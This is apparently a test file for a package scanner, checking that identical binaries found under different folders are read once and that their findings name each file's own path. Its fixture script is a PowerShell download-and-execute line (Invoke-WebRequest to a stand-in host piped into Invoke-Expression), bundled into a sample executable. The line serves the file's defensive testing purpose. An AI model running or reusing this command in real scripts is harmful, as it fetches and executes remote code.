import fc from 'fast-check'
import { readModule } from '../../src/threads.js'
import { newTwins } from '../../src/read/twins.js'
import type { Fact, Module, ModuleFile } from '../../src/types.js'
import { bytesOf, rows } from '../fixtures/binaries/read.js'
import { bundled } from '../fixtures/bundles.js'

const SCRIPT = Buffer.from('Invoke-WebRequest https://inner.example.test/twin | Invoke-Expression\n'.repeat(5))
const CONTENTS: Array<[name: string, bytes: Uint8Array]> = [
  ...[...new Set(rows.map(({ file }) => file))].map((file): [string, Uint8Array] => [file, bytesOf(file)]),
  ['app.exe', bundled(bytesOf('native-x64.dll'), [{ name: 'Behaviors.dll', bytes: bytesOf('Behaviors.dll') }, { name: 'lib/start.ps1', bytes: SCRIPT, type: 0 }])],
  ['start.ps1', SCRIPT],
]

const fileOf = (path: string, bytes: Uint8Array, more: Partial<ModuleFile> = {}): ModuleFile => ({ path, size: bytes.length, bytes: () => bytes, ...more })
const moduleOf = (files: ModuleFile[]): Module => ({ name: 'M', version: '1', path: 'M', kind: 'module', files })
const wanted = () => true

/** What a module's files give when each is alone: no other file can be its twin. */
async function separately(files: ModuleFile[]) {
  const readings = await Promise.all(files.map((file) => readModule(moduleOf([file]), wanted)))
  return { facts: sorted(readings.flatMap(({ facts }) => facts)), graphs: sorted(readings.flatMap(({ graphs }) => graphs.filter(isGraph))) }
}

const isGraph = ({ functions, methods }: { functions: unknown[]; methods?: unknown }): boolean => functions.length > 0 || methods !== undefined
const sorted = (all: unknown[]): string[] => all.map((each) => JSON.stringify(each)).sort()

const FOLDERS = ['', 'lib/net462/', 'lib/netstandard2.0/', 'runtimes/win-x64/native/', 'runtimes/linux-arm64/native/', 'x86/']

test('a file that was read under another path has the facts of its own', async () => {
  await fc.assert(fc.asyncProperty(fc.uniqueArray(fc.tuple(fc.constantFrom(...CONTENTS), fc.constantFrom(...FOLDERS)), { maxLength: 12, selector: ([[name], folder]) => folder + name }), async (chosen) => {
    const files = chosen.map(([[name, bytes], folder]) => fileOf(folder + name, bytes))
    const { facts, graphs } = await readModule(moduleOf(files), wanted)
    const alone = await separately(files)
    expect(sorted(facts)).toEqual(alone.facts)
    expect(sorted(graphs.filter(isGraph))).toEqual(alone.graphs)
  }), { numRuns: 60 })
})

/** How often a reader of twins reads, for files one after the other. */
function timesRead(files: ModuleFile[]): number {
  let times = 0
  const readTwin = newTwins()
  for (const file of files) readTwin(file, () => (times++, [{ facts: [], functions: [] }]))
  return times
}

const DLL = bytesOf('Behaviors.dll')

test('a binary is read once, wherever it lies', () => {
  expect(timesRead([fileOf('lib/net462/a.dll', DLL), fileOf('lib/net6.0/a.dll', new Uint8Array(DLL)), fileOf('a.dll', DLL)])).toBe(1)
})

test.each<[string, ModuleFile[]]>([
  ['another content', [fileOf('a/a.dll', DLL), fileOf('b/a.dll', bytesOf('native-x64.dll'))]],
  ['another name', [fileOf('a/a.dll', DLL), fileOf('a/b.dll', DLL)]],
  ['the folder of another processor', [fileOf('runtimes/win-x64/native/a.dll', DLL), fileOf('runtimes/win-arm64/native/a.dll', DLL)]],
  ['an odd name', [fileOf('a/a.dll', DLL), fileOf('b/a.dll', DLL, { oddities: [{ name: 'odd', detail: 'Odd.' }] })]],
  ['an archive around it', [fileOf('a/a.dll', DLL), fileOf('b.zip!a.dll', DLL, { chain: ['zip'] })]],
  ['a script', [fileOf('a/a.ps1', SCRIPT), fileOf('b/a.ps1', SCRIPT)]],
])('%s is no twin', (_, files) => {
  expect(timesRead(files)).toBe(2)
})

test('facts of a twin name its own path only', async () => {
  const [, bytes] = CONTENTS.find(([name]) => name === 'app.exe')!
  const { facts } = await readModule(moduleOf([fileOf('lib/net462/app.exe', bytes), fileOf('lib/net8.0/app.exe', bytes)]), wanted)
  const paths = (of: Fact[]): string[] => of.map(({ at }) => at.file)
  expect(facts.filter(({ at }) => at.file.startsWith('lib/net8.0/'))).toHaveLength(facts.length / 2)
  expect(paths(facts)).toContain('lib/net8.0/app.exe!lib/start.ps1')
  expect(JSON.stringify(facts.filter(({ at }) => at.file.startsWith('lib/net8.0/')))).not.toContain('net462')
})
